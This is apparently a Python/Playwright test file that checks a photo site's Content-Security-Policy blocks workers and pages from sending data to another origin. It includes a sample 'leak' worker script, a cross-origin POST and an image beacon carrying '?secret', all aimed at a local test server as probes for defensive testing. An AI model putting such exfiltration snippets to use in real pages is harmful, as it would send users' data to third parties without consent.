"""Threads really run, and nothing can leave: the browser enforces both."""

from pathlib import Path

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import Bench
from tools.serve import SiteServer

POST_FROM_WORKER = """async ([script, target]) => {
  const worker = new Worker(script, { type: "module" });
  worker.postMessage(target);
  const answer = await new Promise((resolve) => {
    worker.onmessage = ({ data }) => resolve(data);
  });
  worker.terminate();
  return answer;
}"""
POST = """(url) =>
  fetch(url, { method: "POST", body: "x", mode: "no-cors" }).then(() => "sent", () => "blocked")"""
LOAD_IMAGE = """(url) => new Promise((resolve) => {
  const image = new Image();
  image.onload = image.onerror = () => resolve();
  image.src = url;
})"""
LEAK = """
self.onmessage = async ({ data }) => {
  try {
    await fetch(data, { method: "POST", body: "a photo", mode: "no-cors" });
    self.postMessage("sent");
  } catch { self.postMessage("blocked"); }
};
"""


@pytest.fixture
def foreign(tmp_path: Path) -> SiteServer:
    """Another origin, which logs what reaches it."""
    (tmp_path / "index.html").write_text("elsewhere")
    with SiteServer(tmp_path, headers=False) as server:
        yield server


def test_threads_run(bench: Bench, small_photo: Path) -> None:
    assert bench.page.evaluate("crossOriginIsolated") is True
    cores = bench.page.evaluate("navigator.hardwareConcurrency")
    answer = bench.cut(small_photo)
    assert answer.receipt["provider"]["threads"] == min(cores, 4) >= 2
    names = bench.page.evaluate("cutaway.device()")
    assert names["isolated"] is True


@pytest.mark.parametrize("folder", ["worker", "runtime", "site"])
def test_workers_cannot_reach_another_origin(
    page: Page, site: SiteServer, dist: Path, foreign: SiteServer, folder: str
) -> None:
    """The policy of each folder that a worker can start from, on a script that tries to leak."""
    probe = dist / folder / "leak.js"
    probe.write_text(LEAK)
    page.goto(f"{site.url}bench.html")
    script = f"{site.url}{folder}/leak.js"
    assert page.evaluate(POST_FROM_WORKER, [script, foreign.url]) == "blocked"
    assert foreign.log == []


def test_without_the_policy_the_same_worker_leaks(
    page: Page, site: SiteServer, dist: Path, foreign: SiteServer
) -> None:
    """The control: it is the header that blocks, not something else."""
    (dist / "leak.js").write_text(LEAK)
    page.goto(f"{site.url}bench.html")
    page.evaluate(POST_FROM_WORKER, [f"{site.url}leak.js", foreign.url])
    assert [entry.received for entry in foreign.log] == [len("a photo")]


def test_page_cannot_reach_another_origin(
    page: Page, site: SiteServer, foreign: SiteServer
) -> None:
    page.goto(site.url)
    assert page.evaluate(POST, foreign.url) == "blocked"
    page.evaluate(LOAD_IMAGE, f"{foreign.url}pixel.png?secret")
    assert foreign.log == []


def test_real_workers_carry_the_policy(page: Page, site: SiteServer, small_photo: Path) -> None:
    """Every script that really became a worker was served with connect-src 'self'."""
    policies: dict[str, str] = {}

    def note(response) -> None:
        if response.request.resource_type == "script" or response.url.endswith((".js", ".mjs")):
            policies[response.url] = response.headers.get("content-security-policy", "")

    page.context.on("response", note)
    workers: list[str] = []
    page.on("worker", lambda worker: workers.append(worker.url))
    Bench(page, site).cut(small_photo)
    assert any(url.endswith("python.js") for url in workers)
    for url in workers:
        assert "connect-src 'self'" in policies[url]
        assert "unsafe-eval" not in policies[url].replace("wasm-unsafe-eval", "")
